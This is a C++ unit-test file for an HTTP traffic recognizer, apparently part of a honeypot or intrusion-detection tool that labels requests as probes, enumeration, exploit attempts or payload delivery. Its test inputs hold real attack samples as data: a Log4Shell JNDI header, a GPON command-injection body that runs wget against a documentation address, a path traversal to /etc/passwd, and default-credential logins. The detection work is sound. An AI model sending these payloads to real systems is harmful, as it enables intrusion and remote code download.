// SPDX-License-Identifier: Apache-2.0
#include "recognition/http_conversation.h"

#include <gtest/gtest.h>

#include "support/piecewise.h"

namespace hitme::recognition {
namespace {

Story watch(std::string_view client, std::string_view server = {}, std::size_t piece = 4096) {
    HttpConversation conversation;
    for (const core::Bytes bytes : tests::pieces_of(core::as_bytes(client), piece))
        conversation.client(bytes, {});
    for (const core::Bytes bytes : tests::pieces_of(core::as_bytes(server), piece))
        conversation.server(bytes, {});
    conversation.finish();
    return conversation.story();
}

std::string fact(const Story& story, std::string_view name) {
    for (const auto& each : story.facts)
        if (each.name == name) return each.value;
    return {};
}

TEST(HttpConversation, TellsRequestsWithTheirAnswers) {
    const Story story = watch(
        "HEAD / HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/7.88.1\r\n\r\n"
        "GET /x HTTP/1.1\r\nHost: a\r\n\r\n"
        "GET /y HTTP/1.1\r\nHost: a\r\n\r\n",
        "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n"
        "HTTP/1.1 404 Not Found\r\nContent-Length: 12\r\n\r\nHTTP/1.1 500"
        "HTTP/1.1 301 Moved\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\n\r\n");
    ASSERT_EQ(story.operations.size(), 3u);
    EXPECT_EQ(story.operations[0].outcome, "200");
    EXPECT_EQ(story.operations[1].arguments, "/x");
    EXPECT_EQ(story.operations[1].outcome, "404");
    EXPECT_EQ(story.operations[1].offset, 53u);  // 17 + 9 + 25 + 2
    EXPECT_EQ(story.operations[2].outcome, "301");
    EXPECT_EQ(story.stage, event::Stage::probe);
    EXPECT_EQ(fact(story, "http.tool"), "curl");
    EXPECT_TRUE(story.labels.empty());
    EXPECT_TRUE(story.malformed.empty());
    EXPECT_EQ(story.sentence, "HTTP: HEAD /, GET /x, GET /y");
}

TEST(HttpConversation, TellsAnExploitAttemptWithItsPlace) {
    const Story story =
        watch("GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n\r\n");
    EXPECT_EQ(story.stage, event::Stage::exploit_attempt);
    ASSERT_EQ(story.labels.size(), 1u);
    EXPECT_EQ(story.labels[0].name, "Log4Shell");
    ASSERT_EQ(story.labels[0].evidence.size(), 1u);
    EXPECT_EQ(story.labels[0].evidence[0].offset, 31u);  // 16 bytes of request line, 15 of name
    EXPECT_EQ(story.sentence, "HTTP: GET /; Log4Shell, certain: exploit attempt");
}

TEST(HttpConversation, CallsWhatAProxyWouldBeAskedAProbe) {
    const Story connect = watch("CONNECT 192.0.2.1:25 HTTP/1.1\r\n\r\n");
    ASSERT_EQ(connect.labels.size(), 1u);
    EXPECT_EQ(connect.labels[0].rule, "http.open_proxy@1");
    EXPECT_EQ(connect.labels[0].grade, event::Grade::likely);
    EXPECT_EQ(connect.labels[0].evidence[0].offset, 8u);  // behind "CONNECT "
    EXPECT_EQ(connect.stage, event::Stage::probe);
    const Story absolute = watch("GET HTTP://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n");
    ASSERT_EQ(absolute.labels.size(), 1u);
    EXPECT_EQ(absolute.labels[0].grade, event::Grade::consistent);
    EXPECT_EQ(fact(absolute, "http.proxy_target"), "HTTP://example.com/");
    EXPECT_TRUE(watch("GET /http://example.com/ HTTP/1.1\r\n\r\n").labels.empty());
}

TEST(HttpConversation, TellsABodyThatWouldFetchAFile) {
    const Story story = watch(
        "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nContent-Length: 62\r\n\r\n"
        "XWebPageName=diag&dest_host=`wget+http://192.0.2.1/gpon+-O+x`;");
    EXPECT_EQ(story.stage, event::Stage::payload_delivery);
    EXPECT_EQ(fact(story, "http.download"), "wget http://192.0.2.1/gpon");
    EXPECT_EQ(story.stages.size(), 3u);  // probe, enumeration (the management page), delivery
}

TEST(HttpConversation, CountsRefusedLogonsAndNamesDefaultOnes) {
    // base64 of tomcat:s3cret and of a:b
    const Story story = watch(
        "GET /manager/html HTTP/1.1\r\nAuthorization: Basic dG9tY2F0OnMzY3JldA==\r\n\r\n"
        "GET /manager/html HTTP/1.1\r\nAuthorization: Basic YTpi\r\n\r\n",
        "HTTP/1.1 401 \r\nContent-Length: 0\r\n\r\nHTTP/1.1 401 \r\nContent-Length: 0\r\n\r\n");
    EXPECT_EQ(story.logons_failed, 2u);
    EXPECT_EQ(fact(story, "http.user"), "tomcat");
    EXPECT_EQ(fact(story, "http.credential"), "default credential");
    EXPECT_EQ(story.stage, event::Stage::enumeration);
}

TEST(HttpConversation, ReadsALogonOutOfAForm) {
    const Story story = watch(
        "POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        "Content-Length: 29\r\n\r\nusername=admin&password=admin");
    EXPECT_EQ(fact(story, "http.user"), "admin");
    EXPECT_EQ(story.labels.at(0).name, "default credential");
}

TEST(HttpConversation, TakesTheFormAgainForARefusal) {
    const auto answered = [](std::string_view fields, std::string_view body,
                             std::size_t piece = 4096) {
        const std::string_view post =
            "POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            "Content-Length: 25\r\n\r\nusername=bob&password=abc";
        return watch(post,
                     "HTTP/1.1 200 OK\r\n" + std::string(fields) + "Content-Length: " +
                         std::to_string(body.size()) + "\r\n\r\n" + std::string(body),
                     piece);
    };
    const std::string_view form =
        "<p>Invalid user name or password.</p><form><INPUT TYPE=\"Password\" name=\"password\">";
    for (const std::size_t piece : {1u, 3u, 4096u}) {
        const Story story = answered("", form, piece);
        EXPECT_EQ(story.logons_failed, 1u) << piece;
        EXPECT_EQ(story.operations.back().outcome, "200, the form again");
    }
    EXPECT_EQ(answered("", "<h1>Welcome</h1>").logons_failed, 0u);
    EXPECT_EQ(answered("Set-Cookie: session=1\r\n", form).logons_failed, 0u);
    EXPECT_EQ(answered("", "").logons_failed, 0u);
    // A page whose form lies behind what is searched says nothing.
    EXPECT_EQ(
        answered("", std::string(HttpConversation::max_searched_body, ' ') + std::string(form))
            .logons_failed,
        0u);
    const Story chunked = watch(
        "POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        "Content-Length: 25\r\n\r\nusername=bob&password=abc",
        "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n15\r\n<input type=password>\r\n"
        "0\r\n\r\n");
    EXPECT_EQ(chunked.logons_failed, 1u);
}

TEST(HttpConversation, TakesEightTargetsAsEnumeration) {
    std::string seven;
    for (char c = 'a'; c < 'h'; ++c) seven += std::string("GET /") + c + " HTTP/1.0\r\n\r\n";
    EXPECT_EQ(watch(seven + seven).stage, event::Stage::probe);
    EXPECT_EQ(watch(seven + "GET /h HTTP/1.0\r\n\r\n").stage, event::Stage::enumeration);
}

TEST(HttpConversation, TellsTheSameInAnyPiecesAndSurvivesEveryCutAndFlip) {
    const std::string_view client =
        "POST /a?x=../../etc/passwd HTTP/1.1\r\nAuthorization: Basic YTpi\r\n"
        "Transfer-Encoding: chunked\r\n\r\n5\r\nab;cd\r\n0\r\n\r\n\x16junk";
    const std::string_view server =
        "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 401 No\r\nContent-Length: 3\r\n\r\nabc";
    const Story whole = watch(client, server);
    for (const std::size_t piece : {1u, 2u, 3u, 5u}) {
        const Story cut = watch(client, server, piece);
        EXPECT_EQ(cut.sentence, whole.sentence);
        EXPECT_EQ(cut.facts.size(), whole.facts.size());
        EXPECT_EQ(cut.stages, whole.stages);
        ASSERT_EQ(cut.malformed.size(), 1u);
        EXPECT_EQ(cut.malformed[0].offset, whole.malformed[0].offset);
        EXPECT_EQ(cut.operations[0].outcome, "401");
    }
    tests::for_each_cut_and_flip(core::as_bytes(client), [](core::Bytes bytes) {
        HttpConversation conversation;
        conversation.client(bytes, {});
        conversation.finish();
        EXPECT_LE(conversation.memory(), 64u << 10);
    });
    tests::for_each_cut_and_flip(core::as_bytes(server), [](core::Bytes bytes) {
        HttpConversation conversation;
        conversation.server(bytes, {});
        conversation.finish();
    });
}

TEST(HttpConversation, StaysBoundedAndSaysWhatIsMissing) {
    HttpConversation conversation;
    for (int i = 0; i < 2000; ++i)
        conversation.client(
            core::as_bytes("GET /a HTTP/1.1\r\nUser-Agent: " + std::to_string(i) + "\r\n\r\n"), {});
    EXPECT_LE(conversation.memory(), 128u << 10);
    conversation.gap(Side::client, 7);
    conversation.client(core::as_bytes("rubbish\r\n"), {});
    conversation.finish();
    EXPECT_TRUE(conversation.story().malformed.empty());
    EXPECT_EQ(conversation.story().operations_not_kept, 2000u - max_operations);
    HttpConversation silent;
    silent.finish();
    EXPECT_EQ(silent.story().stage, event::Stage::scan);
}

}  // namespace
}  // namespace hitme::recognition
